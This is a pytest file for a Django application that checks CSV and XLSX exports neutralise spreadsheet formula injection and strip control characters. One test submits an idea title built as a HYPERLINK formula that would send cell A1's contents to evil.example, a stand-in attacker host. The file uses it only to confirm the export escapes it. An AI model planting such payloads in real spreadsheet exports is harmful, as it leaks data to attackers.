"""Issue 14, item 4: what a person types cannot become a formula or break a spreadsheet.

Every CSV and XLSX goes through core/exports.py; these tests download the files over HTTP."""

import io
import zipfile

import pytest
from openpyxl import load_workbook

from core.exports import csv_bytes, safe_text
from tenants.models import Role
from tests.intake.conftest import submit

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+45 12 34 56 78", "'+45 12 34 56 78"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Lejetilbud\x00\x07\x1b", "Lejetilbud"),
        ("Svar på lejetilbud", "Svar på lejetilbud"),
    ],
)
def test_text_cells_are_neutralised(typed, written):
    assert safe_text(typed) == written


def test_numbers_stay_numbers_in_csv():
    assert csv_bytes([["-12", -12]]).decode("utf-8-sig") == "'-12;-12\r\n"


def test_an_idea_title_cannot_become_a_formula_in_the_offices_board_report(
    aarhus, office, make_user, site_client
):
    member = site_client(aarhus, make_user("mette@aarhus.dk", aarhus, Role.MEMBER))
    title = '=HYPERLINK("https://evil.example/?"&A1,"Klik")\x1b'
    assert submit(member, title).status_code == 302
    finance = site_client(office, make_user("okonomi@robotkontor.dk", office, Role.FINANCE))
    response = finance.get("/insight/report.xlsx?year=2026")
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(name) for name in sheets)
    ideas = load_workbook(io.BytesIO(content))["Idéer"]
    (cell,) = [row[0] for row in ideas.iter_rows(min_row=2) if "HYPERLINK" in str(row[0].value)]
    assert cell.value == "'" + title[:-1] and cell.data_type == "s"
